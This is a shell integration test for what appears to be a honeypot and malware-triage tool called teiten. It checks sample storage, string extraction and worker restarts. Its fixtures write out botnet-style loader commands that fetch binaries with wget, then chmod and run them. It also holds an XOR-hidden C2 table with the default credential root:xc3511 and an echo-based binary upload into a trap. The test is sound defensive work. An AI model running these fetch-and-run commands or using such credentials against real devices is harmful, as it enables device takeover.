#!/bin/bash
# Programs that attacks deliver, from the visitor's keys to the report: made by echo in a session, kept in the vault, read by
# the confined worker; and programs that people add.
set -uo pipefail
# shellcheck source=tests/live/scenario.sh
source "$TEITEN_SOURCE/tests/live/scenario.sh"
needs python3 unzip sqlite3 pgrep

# Text that is hidden by a key lies in a file of its own making.
make_files() {
    python3 - "$TMPDIR" <<'END'
import pathlib, random, sys
folder = pathlib.Path(sys.argv[1])
random.seed(5)
table = b"\0".join([b"", b"/bin/busybox", b"http://192.0.2.77:81/bins/x", b"cnc.example.com", b"root", b"xc3511", b""])
noise = random.randbytes(9000)
(folder / "hidden").write_bytes(noise[:4000] + bytes(c ^ 0x54 for c in table) + noise[4000:])
(folder / "loader.sh").write_text("#!/bin/sh\nfor a in mips arm7; do wget http://192.0.2.78/b/$a -O x; chmod 777 x; ./x; done\n")
(folder / "empty").write_bytes(b"")
(folder / "\x1b[31mred").write_text("cd /tmp; wget http://192.0.2.1/\x1b[2J; chmod +x a; ./a\n")
with (folder / "large").open("wb") as f:
    f.truncate((32 << 20) + 1)
END
}

added() {
    local added sha
    make_files
    "$TEITEN" sample add "$TMPDIR/hidden" "$TMPDIR/loader.sh" "$TMPDIR/empty" "$TMPDIR"/*red /bin/true --state "$TMPDIR/added" \
        --json >"$TMPDIR/added.json" || fail "add: $?"
    "$TEITEN" sample add "$TMPDIR/hidden" --state "$TMPDIR/added" --json | grep -q '"known":true' || fail "it is not known"
    if "$TEITEN" sample add "$TMPDIR/large" "$TMPDIR" "$TMPDIR/nothing" --state "$TMPDIR/added" 2>"$TMPDIR/refused.log"; then
        fail "what is no sample was added"
    fi
    (($(grep -c "^teiten: " "$TMPDIR/refused.log") == 3)) || fail "not all were refused"
    holds added 'len(d) == 5 and all(s["kept"] for s in d)' samples || fail "samples: $("$release" samples --state "$TMPDIR/added")"
    sha=$(sha256sum <"$TMPDIR/hidden" | cut -c1-64)
    holds added "{'http://192.0.2.77:81/bins/x', 'cnc.example.com'} <= {e['text'] for e in d['endpoints'] if e['key'] == '54'}" \
        sample "${sha:0:10}" || fail "what was hidden is not found: $("$release" sample "$sha" --state "$TMPDIR/added")"
    holds added "d['log_ins'][0]['password'] == 'xc3511' and d['origins'][0]['how'] == 'added'" sample "$sha" || fail "log-ins"
    sha=$(sha256sum <"$TMPDIR/loader.sh" | cut -c1-64)
    holds added "sorted(e['text'] for e in d['endpoints'] if e['reason'] == 'script') == ['http://192.0.2.78/b/arm7', 'http://192.0.2.78/b/mips'] \
        and {'loader_script'} <= {r['name'] for r in d['rules']}" sample "$sha" || fail "the loader is not read"
    "$TEITEN" sample "$(sha256sum <"$TMPDIR"/*red | cut -c1-64)" --state "$TMPDIR/added" >"$TMPDIR/red.out" || fail "sample"
    grep -q $'\x1b' "$TMPDIR/red.out" && fail "a stranger's bytes reach the terminal"
    grep -qF '192.0.2.1/\x1b[2J' "$TMPDIR/red.out" || fail "what is not shown is not told either: $(<"$TMPDIR/red.out")"
    "$TEITEN" sample "$sha" --save "$TMPDIR/x.zip" --state "$TMPDIR/added" || fail "save"
    [[ $(unzip -p -P infected "$TMPDIR/x.zip" | sha256sum | cut -c1-64) == "$sha" ]] || fail "the ZIP file holds something else"
    unzip -p -P wrong "$TMPDIR/x.zip" >/dev/null 2>&1 && fail "it opens without its password"
    "$TEITEN" sample "$sha" --save "$TMPDIR/x.zip" --state "$TMPDIR/added" 2>/dev/null && fail "a file was overwritten"
    "$TEITEN" sample 0123456789 --state "$TMPDIR/added" 2>/dev/null && fail "nothing is something"
    added=$(stat -c %a "$TMPDIR"/added/vault/??/"$sha")
    [[ $added == 400 ]] || fail "the vault's mode is $added"
    "$release" verify --state "$TMPDIR/added" >/dev/null || fail "verify"
}

begin() {
    local name=$1
    shift
    netns_start SENSOR "$TEITEN" observe --interface sensor0 --state "$TMPDIR/$name" --set trap.persona=hi3520-recorder \
        --set trap.telnet=127.0.0.1:2323 --set trap.http=0.0.0.0:0 --set trap.netis=0.0.0.0:0 --set trap.login=any "$@" 2>>"$TMPDIR/$name.log"
    observer=$netns_pid
    until_true 20 said "$name" " started " || fail "$name does not begin"
}

end() {
    netns_stop "$observer" || fail "$1 ended with $?"
}

# Writes a file by echo, as loaders do, and runs it. $1: letters that make it another.
upload() {
    PYTHONPATH=$TEITEN_SOURCE/tests/trap netns_in SENSOR python3 - "$1" <<'END' || fail "the upload of $1"
import sys
from visit import PROMPT, Visitor
visitor = Visitor("-", "127.0.0.1", 2323)
assert visitor.enter(["root:xc3511"])
head = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\x00\x28\x00\x01\x00\x00\x00"
body = head + b"http://192.0.2.99/" + sys.argv[1].encode() + bytes(40)
pieces = ["".join(f"\\x{c:02x}" for c in body[at:at + 32]) for at in range(0, len(body), 32)]
for line in ["cd /tmp; >x; chmod 777 x", *(f"echo -ne '{piece}' >> x" for piece in pieces), "./x"]:
    visitor.say(line)
    visitor.until(PROMPT)
visitor.say("exit")
END
}

has_sample() {
    holds "$1" "any(s['cpu'] == 'arm' and s['format'] == 'elf' for s in d)" samples
}

told_all() {
    [[ $(sqlite3 -readonly "$TMPDIR/$1/teiten.db" "SELECT count(*)=$2 AND min(told)=1 FROM sample") == 1 ]]
}

# From the keys to the report; and who is killed meanwhile is started again.
made() {
    local session
    begin made
    upload one
    until_true 30 has_sample made || fail "what was made is not told of: $("$release" samples --state "$TMPDIR/made")"
    session=$("$release" sessions --json --state "$TMPDIR/made" | python3 -c 'import json, sys; print(json.load(sys.stdin)[0]["id"])')
    holds made "len(d) == 1" samples --session "$session" || fail "the session does not lead to it"
    holds made "d[0]['name'] == 'arm' and d[0]['sources'] == 1" top cpus || fail "top cpus"
    until_true 15 holds made "any(w['name'] == 'triage' and w['pid'] for w in d['workers'])" status || fail "status does not tell of triage"
    pkill -KILL -P "$observer" -f '^teiten-triage$' || fail "no triage is there to be killed"
    upload two
    until_true 60 told_all made 2 || fail "after the worker's death nothing is told"
    until_true 15 holds made "any(w['name'] == 'triage' and w['restarts'] == 1 for w in d['workers'])" status || fail "it was not started again"
    end made
    "$release" verify --state "$TMPDIR/made" >/dev/null || fail "verify"
    [[ $(find "$TMPDIR/made/vault" -type f | wc -l) == 2 ]] || fail "the vault: $(find "$TMPDIR/made/vault" -type f)"
}

# What is beyond the quota goes, the oldest of no session first; what triage told stays.
quota() {
    python3 - "$TMPDIR" <<'END'
import pathlib, random, sys
for i in range(3):
    random.seed(i)
    (pathlib.Path(sys.argv[1]) / f"big{i}").write_bytes(random.randbytes(600_000))
END
    "$TEITEN" sample add "$TMPDIR"/big? --state "$TMPDIR/quota" >/dev/null || fail "add"
    begin quota --set sample.quota=1
    until_true 20 eval '(($(find "$TMPDIR/quota/vault" -type f | wc -l) == 1))' || fail "the quota does not hold"
    end quota
    holds quota "len(d) == 3 and sum(s['kept'] for s in d) == 1" samples || fail "what was told is gone"
    "$TEITEN" sample "$(sha256sum <"$TMPDIR/big0" | cut -c1-20)" --save "$TMPDIR/gone.zip" --state "$TMPDIR/quota" 2>"$TMPDIR/gone.log" &&
        fail "what is gone was saved"
    grep -q "no more" "$TMPDIR/gone.log" || fail "it is not said why"
}

# ONLY: some of them
netns_up || fail "no namespaces"
for what in ${ONLY:-added made quota}; do
    "$what"
done
echo PASS
